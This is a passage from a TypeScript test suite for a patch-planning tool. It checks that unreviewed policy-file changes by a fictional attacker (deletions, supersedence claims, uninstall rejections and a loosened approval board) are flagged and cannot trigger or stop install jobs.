        "policies/updates/kb100-v2.yaml": updateDoc("KB100").replace("name: kb100", "name: kb100-v2"),
      },
      "Mallory <mallory@example.com>",
    );
    const r = await plan(repo);
    expect(updatesIn(r.jobs)).toEqual(["KB100", "KB101"]);
    expect(r.jobs.filter((j) => j.type === "install").map((j) => j.host)).toEqual(["host-01", "host-02"]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "deletion-unverified",
        file: "policies/updates/kb100.yaml",
        message: expect.stringContaining("the file's last version takes effect"),
      }),
    );
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "policy-file-unverified",
        file: "policies/updates/kb100-v2.yaml",
        message: expect.stringContaining("takes the id KB100 of policies/updates/kb100.yaml"),
      }),
    );
    expect(r.code).toBe(1);
  });

  it("a deletion that cannot be undone (its id now held by a reviewed file) stops every install job", async () => {
    const { repo } = await base();
    await change(repo, { "policies/updates/kb100.yaml": null }, "Mallory <mallory@example.com>");
    const v2 = await change(repo, {
      "policies/updates/kb100-v2.yaml": updateDoc("KB100").replace("name: kb100", "name: kb100-v2"),
    });
    gh.pulls.push(pr(3, [v2], [ok("alice"), ok("bob")]));
    const r = await plan(repo);
    expect(r.jobs.filter((j) => j.type === "install")).toEqual([]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "deletion-unverified",
        file: "policies/updates/kb100.yaml",
        message: expect.stringContaining("cannot be undone"),
      }),
    );
  });

  it("an unreviewed pending file cannot make an approved update look superseded", async () => {
    const { repo } = await base();
    const inv = INVENTORY.replace('"installed":[]', '"installed":["KB999"]');
    await change(repo, { "inv.jsonl": inv });
    await change(repo, {
      "policies/updates/kb999.yaml": updateDoc("KB999", { decision: null, extra: "  supersedes: [KB100]\n" }),
    });
    const r = await plan(repo);
    expect(r.hosts.map((h) => h.updates.KB100)).toEqual(["missing", "missing"]);
    expect(updatesIn(r.jobs)).toEqual(["KB100"]);
    expect(r.jobs.filter((j) => j.type === "install").map((j) => j.host)).toEqual(["host-01", "host-02"]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "approval-unverified",
        file: "policies/updates/kb999.yaml",
        message: expect.stringContaining("its supersedence and prerequisites do not count"),
      }),
    );
  });

  it("an unreviewed rejection with remove: true uninstalls nothing", async () => {
    const { repo } = await base();
    await change(repo, { "inv.jsonl": INVENTORY.replace('"installed":[]', '"installed":["KB100"]') });
    await change(repo, {
      "policies/updates/kb100.yaml": updateDoc("KB100", {
        decision: "rejected",
        extra: "  remove: true\n  uninstallable: true\n",
      }),
    });
    const r = await plan(repo);
    expect(r.jobs.filter((j) => j.type === "uninstall")).toEqual([]);
    expect(r.plan.findings).toContainEqual(
      expect.objectContaining({
        code: "approval-unverified",
        message: expect.stringContaining(
          "rejected in policies/updates/kb100.yaml, but the change could not be verified",
        ),
      }),
    );
  });

  it("approvals --pr judges by the CAB in force at the merge base as verified, not by an unreviewed cab.yaml", async () => {
    const { repo } = await base();
    await change(repo, {
      "policies/cab.yaml": CAB.replace("[alice, bob, carol]", "[alice, bob, carol, sock]").replace(
        "requiredApprovals: 2",
        "requiredApprovals: 1",
      ),
    });
    const baseSha = execFileSync("git", ["rev-parse", "HEAD"], { cwd: repo, encoding: "utf8" }).trim();
    const head = await change(repo, { "policies/updates/kb107.yaml": updateDoc("KB107") }, "Mallory <m@example.com>");
    gh.pulls.push({ ...pr(7, [head], [ok("sock")], "mallory"), mergedAt: null, baseSha });
    const check = await cli("approvals", "--repo", repo, "--pr", "7", "--now", NOW, "--cache-dir", outside("c"));
    expect(check.code).toBe(1);
    expect(check.stdout).toMatch(/✗ policies\/updates\/kb107.yaml: 0 of 2 needed from the CAB/);
    expect(check.stderr).toContain("was not approved by the CAB before it, so it does not judge this pull request");
  });
});
